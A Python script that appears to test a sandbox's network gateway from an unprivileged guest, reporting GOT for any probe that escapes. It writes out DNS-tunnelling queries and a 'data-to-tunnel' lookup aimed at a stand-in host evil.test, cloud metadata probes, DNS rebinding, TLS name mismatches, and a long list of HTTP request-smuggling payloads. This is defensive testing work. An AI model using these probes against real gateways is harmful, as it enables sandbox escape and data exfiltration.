# Every road that a program without rights can take. `report` prints what came of each; one that gets through says GOT.
AT_ONCE = 15
socket.setdefaulttimeout(10)
MARK = b'one byte for a canary'


def got(text):
    if not text or b'403 Forbidden' in text or b'400 Bad Request' in text: return 'nothing'
    return 'GOT ' + repr(text[:80])


def tcp(address, port, say=MARK):
    with socket.create_connection((address, port)) as s:
        s.sendall(say)
        return got(s.recv(4096))


def udp(address, port, say=MARK):
    family = socket.AF_INET6 if ':' in address else socket.AF_INET
    with socket.socket(family, socket.SOCK_DGRAM) as s:
        s.settimeout(2)
        s.connect((address, port))
        s.send(say)
        return got(s.recv(4096))


def shout(address, port):
    with socket.socket(type=socket.SOCK_DGRAM) as s:
        s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        return s.sendto(MARK, (address, port)) and 'shouted'


def reads_all(s):
    text = b''
    try:
        while piece := s.recv(65536): text += piece
    except OSError: pass
    return text


# Addresses.
for address, port in [('198.51.100.7', 22), ('198.51.100.7', 80), ('198.51.100.7', 443), ('198.51.100.7', 65000),
                      ('2001:db8:bad::7', 443), ('10.66.0.1', 80), ('169.254.169.254', 80), ('100.100.100.200', 80),
                      ('192.88.99.1', 80), ('fd00:ec2::254', 80), ('fec0::1', 80), ('64:ff9b::c633:6407', 80),
                      ('2002:c633:6407::1', 80), ('::ffff:198.51.100.7', 9), ('198.18.0.1', 22), ('198.18.0.1', 3128),
                      ('fd66:756d:6568::1', 22), ('198.51.100.7', 53), ('198.51.100.7', 853)]:
    report(f'{address} {port}', lambda: tcp(address, port))
report('gateway, http', lambda: tcp('198.18.0.1', 80, b'GET / HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n'))


def fast_open():
    with socket.socket() as s: return s.sendto(MARK, socket.MSG_FASTOPEN, ('198.51.100.8', 80)) and got(s.recv(100))


def urgent():
    with socket.create_connection(('198.51.100.8', 8080)) as s: return s.send(MARK, socket.MSG_OOB) and got(s.recv(100))


report('fast open', fast_open)
report('urgent', urgent)

# Names that this guest is told the addresses of, from here on.
for name in ['web.test', 'second.test', 'seen.test']: report(name, lambda: socket.gethostbyname(name))
for port in [22, 3128]: report(f'web.test {port}', lambda: tcp('web.test', port))

# UDP.
QUIC = b'\xc3\0\0\0\1\x08' + bytes(1194)
for address, port, say in [('198.51.100.7', 443, QUIC), ('203.0.113.10', 443, QUIC), ('2001:db8::10', 443, QUIC),
                           ('198.51.100.7', 53, MARK), ('2001:db8:bad::7', 53, MARK), ('198.18.0.1', 4433, MARK)]:
    report(f'udp {address} {port}', lambda: udp(address, port, say))
for address, port in [('255.255.255.255', 9), ('224.0.0.251', 5353)]: report(f'{address} {port}', lambda: shout(address, port))


# Questions about names.
def question(name, kind, flags=0x0100, count=1, of=1):
    labels = b''.join(bytes([len(label)]) + label for label in name.split(b'.'))
    return struct.pack('>6H', 7, flags, count, 0, 0, 0) + (labels + b'\0' + struct.pack('>HH', kind, of)) * count


def answered(text):
    count, code = struct.unpack('>H', text[6:8])[0], text[3] & 15
    # All that may be said of a name that is denied is where it is refused.
    refused = socket.inet_aton('198.18.0.1') in text or socket.inet_pton(socket.AF_INET6, 'fd66:756d:6568::1') in text
    return 'GOT ' + repr(text) if count and not refused else f'code {code}'


def asks(*question_of):
    with socket.socket(type=socket.SOCK_DGRAM) as s:
        s.settimeout(2)
        s.sendto(question(*question_of), ('198.18.0.1', 53))
        return answered(s.recv(4096))


def asks_by_tcp(name, kind):
    with socket.create_connection(('198.18.0.1', 53)) as s:
        text = question(name, kind)
        s.sendall(struct.pack('>H', len(text)) + text)
        return answered(s.recv(4096)[2:])


LONG = b'.'.join([b'0123456789abcdef' * 3] * 4) + b'.evil.test'
for name in [LONG, b'data.evil.test', b'data.web.test', b'data.second.test', b'evil.test']:
    for kind in [1, 28, 16, 10, 15, 33, 255]: report(f'name {name[-14:]} {kind}', lambda: asks(name, kind))
    report(f'name {name[-14:]} by tcp', lambda: asks_by_tcp(name, 16))
report('allowed name, text', lambda: asks(b'web.test', 16))
report('allowed name, service', lambda: asks(b'web.test', 65))
report('chaos', lambda: asks(b'version.bind', 16, 0x0100, 1, 3))
report('two questions', lambda: asks(b'evil.test', 1, 0x0100, 2))
report('update', lambda: asks(b'evil.test', 6, 0x2800))
report('notify', lambda: asks(b'evil.test', 6, 0x2000))
report('odd letters', lambda: asks(b'd\xe4ta\0 with.web.test', 1))
report('getaddrinfo', lambda: tcp('data-to-tunnel.evil.test', 80, b'GET / HTTP/1.1\r\nHost: evil.test\r\n\r\n'))

# A name that moves: to a public address first, then to others.
for turn in range(5):
    request = b'GET /turn HTTP/1.1\r\nHost: turning.test\r\nConnection: close\r\n\r\n'
    report(f'turn {turn}', lambda: turn == 0 and socket.gethostbyname('turning.test') or tcp('turning.test', 80, request))
for turn in range(2):
    report(f'turn, v6, {turn}', lambda: [a[4][0] for a in socket.getaddrinfo('turning.test', 80, socket.AF_INET6)])


# TLS for one name, at another's address or with another's request in it.
def hello(address, name):
    with socket.create_connection((address, 443)) as s:
        with blind().wrap_socket(s, server_hostname=name): return 'GOT a connection'


report('other name', lambda: hello('web.test', 'evil.test'))
report('no name', lambda: hello('web.test', None))
report('another allowed name', lambda: hello('203.0.113.11', 'web.test'))
report('another address', lambda: hello('198.51.100.7', 'web.test'))


def sealed(text):
    def act():
        with socket.create_connection(('seen.test', 443)) as s:
            with ssl.create_default_context().wrap_socket(s, server_hostname='seen.test') as s:
                s.sendall(text)
                return judged(reads_all(s))
    return act


def plain(text, host='web.test', port=80):
    def act():
        with socket.create_connection((host, port)) as s:
            s.sendall(text)
            return judged(reads_all(s))
    return act


def judged(text):
    """Only pages of allowed hosts may come, or refusals."""
    states = [int(part.split()[0]) for part in text.split(b'HTTP/1.')[1:] for part in [part[2:]]]
    return states if not any(word in text for word in (b'smuggled', b'this is evil')) else 'GOT ' + repr(text)


# Requests for others, each on a connection that is allowed: in the clear, and in TLS that ends in the gateway.
for road, host, other in [(plain, b'web.test', b'seen.test'), (sealed, b'seen.test', b'web.test')]:
    here = b'Host: ' + host + b'\r\n'
    end = b'Connection: close\r\n\r\n'
    ok = b'GET / HTTP/1.1\r\n' + here + b'\r\n'
    smuggled = b'GET /smuggled HTTP/1.1\r\nHost: evil.test\r\n\r\n'
    scheme = b'http' if road is plain else b'https'
    for name, text in [
        ('host', b'GET /smuggled HTTP/1.1\r\nHost: evil.test\r\n' + end),
        ('host, an address', b'GET /smuggled HTTP/1.1\r\nHost: 198.51.100.7\r\n' + end),
        ('host, a port', b'GET /smuggled HTTP/1.1\r\nHost: ' + host + b':22\r\n' + end),
        ('two hosts', b'GET /smuggled HTTP/1.1\r\n' + here + b'Host: evil.test\r\n' + end),
        ('no host', b'GET /smuggled HTTP/1.0\r\n' + end),
        ('user and host', b'GET /smuggled HTTP/1.1\r\nHost: ' + host + b'@evil.test\r\n' + end),
        ('absolute', b'GET ' + scheme + b'://evil.test/smuggled HTTP/1.1\r\n' + here + end),
        ('absolute, address', b'GET http://198.51.100.7/smuggled HTTP/1.1\r\n' + here + end),
        ('connect', b'CONNECT evil.test:443 HTTP/1.1\r\nHost: evil.test:443\r\n\r\n' + MARK),
        ('connect, address', b'CONNECT 198.51.100.7:443 HTTP/1.1\r\n' + here + b'\r\n' + MARK),
        ('next host', ok + b'GET /smuggled HTTP/1.1\r\nHost: evil.test\r\n' + end),
        ('next allowed host', ok + b'GET /smuggled HTTP/1.1\r\nHost: ' + other + b'\r\n' + end),
        ('websocket', b'GET /ws HTTP/1.1\r\nHost: evil.test\r\nConnection: upgrade\r\nUpgrade: websocket\r\n'
         b'Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\nSec-WebSocket-Version: 13\r\n\r\n'),
        ('h2c', b'GET / HTTP/1.1\r\n' + here + b'Connection: upgrade, http2-settings\r\nUpgrade: h2c\r\n'
         b'HTTP2-Settings: AAMAAABkAAQAAP__\r\n\r\n' + smuggled),
        ('length and chunks', b'POST / HTTP/1.1\r\n' + here + b'Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n'
         b'0\r\n\r\n' + smuggled),
        ('chunks and length', b'POST / HTTP/1.1\r\n' + here + b'Transfer-Encoding: chunked\r\nContent-Length: %d\r\n\r\n'
         b'0\r\n\r\n' % (len(smuggled) + 5) + smuggled),
        ('two lengths', b'POST / HTTP/1.1\r\n' + here + b'Content-Length: 0\r\nContent-Length: %d\r\n\r\n' % len(smuggled)
         + smuggled),
        ('odd encoding', b'POST / HTTP/1.1\r\n' + here + b'Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n' + smuggled),
        ('odd colon', b'POST / HTTP/1.1\r\n' + here + b'Transfer-Encoding : chunked\r\nContent-Length: 5\r\n\r\n'
         b'0\r\n\r\n' + smuggled),
        ('odd chunk', b'POST / HTTP/1.1\r\n' + here + b'Transfer-Encoding: chunked\r\n\r\n1;x\n\r\nA\r\n0\r\n\r\n' + smuggled),
        ('get with a body', b'GET / HTTP/1.1\r\n' + here + b'Content-Length: %d\r\n' % len(smuggled) + end + smuggled),
        ('folded', b'GET / HTTP/1.1\r\n' + here + b'X-A: b\r\n Host: evil.test\r\n' + end),
        ('bare feeds', b'GET / HTTP/1.1\nHost: ' + host + b'\n\nGET /smuggled HTTP/1.1\nHost: evil.test\n\n'),
        ('in a header', b'GET / HTTP/1.1\r\n' + here + b'X-A: b\rHost: evil.test\r\n' + end),
    ]:
        report(f'{road.__name__} {name}', road(text))
report('host at another address', plain(b'GET /smuggled HTTP/1.1\r\nHost: web.test\r\nConnection: close\r\n\r\n', 'second.test'))
report('words', plain(MARK * 10))
report('words, tls', plain(MARK * 10, port=443))
report('http 2', plain(b'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'))


def urgent_host():
    with socket.create_connection(('web.test', 80)) as s:
        s.sendall(b'GET /smuggled HTTP/1.1\r\nHost: evil.')
        s.send(b'x', socket.MSG_OOB)
        s.sendall(b'test\r\nConnection: close\r\n\r\n')
        return judged(reads_all(s))


report('urgent host', urgent_host)
if __name__ == '__main__' and os.getuid() != 0: print('all tried')
